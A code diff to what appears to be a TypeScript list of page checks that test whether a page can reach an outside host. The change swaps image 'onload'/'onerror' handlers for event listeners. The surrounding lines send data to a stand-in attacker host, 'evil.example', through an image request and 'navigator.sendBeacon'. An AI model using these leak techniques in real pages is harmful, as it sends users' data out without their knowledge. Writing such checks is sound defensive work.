@@ -141,8 +141,8 @@ export const PAGE_CHECKS: readonly ShellCheck[] = [
         )
         const image = new Image()
         const loaded = new Promise((resolve) => {
-          image.onload = () => resolve('reached')
-          image.onerror = () => resolve('failed')
+          image.addEventListener('load', () => resolve('reached'))
+          image.addEventListener('error', () => resolve('failed'))
         })
         image.src = 'https://evil.example/leak.png'
         navigator.sendBeacon?.('https://evil.example/beacon', 'jane')
